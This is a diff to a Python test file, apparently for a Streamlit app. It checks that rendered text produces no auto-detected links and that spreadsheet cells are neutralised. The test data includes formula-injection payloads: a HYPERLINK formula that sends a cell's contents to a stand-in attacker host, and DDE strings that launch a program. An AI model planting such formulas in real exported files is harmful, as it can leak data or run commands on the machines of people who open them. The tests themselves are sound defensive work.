@@ -30,7 +30,7 @@ from storage.settings import Settings
 from storage.text import NAME_MAX, NOTES_MAX
 from tests.accounts import make_user
 from tests.drafts import new_draft, start_options
-from ui.text import cell, cells, plain, plain_html
+from ui.text import JOINER, cell, cells, plain, plain_html
 
 ROOT = Path(__file__).resolve().parents[2]
 GOOD = "a-good-password"
@@ -208,7 +208,11 @@ def test_plain_renders_as_the_very_characters_typed(text):
     md = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "strikethrough", "linkify"])  # (GFM's autolinks)
     rendered = md.render(escaped)
     literal = html.escape(text, quote=False).replace('"', "&quot;")
-    assert rendered == f"<p>{literal}</p>\n", rendered
+    assert rendered.replace(JOINER, "") == f"<p>{literal}</p>\n", rendered
+    # GitHub's Markdown (Streamlit's remark-gfm) finds bare links in the text once its escapes are read: what
+    # it looks for is broken by an invisible word joiner, not by a backslash
+    read = re.sub(r"\\(.)", r"\1", escaped).lower()
+    assert not re.search(r"[a-z0-9]://|\bwww\.|[\w.+-]@|\b(mailto|xmpp):", read), read
 
 
 def test_plain_drops_what_turns_text_around_and_plotly_gets_html_escapes():
@@ -248,7 +252,8 @@ def test_table_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_
     formulas = ['=HYPERLINK("http://evil.example/?"&A2,"report")', "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
                 "@SUM(1+1)", "\t=1+1", "\r=1"]
     assert [cell(f) for f in formulas] == ["'" + f for f in formulas]
-    for kept in ["-0.25", "+3", "-1e-3", "12%", "stack-1", "—", "a=b", "", 5, -2.5, None]:
+    for kept in ["-0.25", "+3", "-1e-3", "12%", "stack-1", "—", "a=b", "", 5, -2.5, None, "-ve control", "+nan",
+                 "-1,5"]:
         assert cell(kept) == kept
     assert cells([{"name": "=1+1", "n": -1}]) == [{"name": "'=1+1", "n": -1}]
 
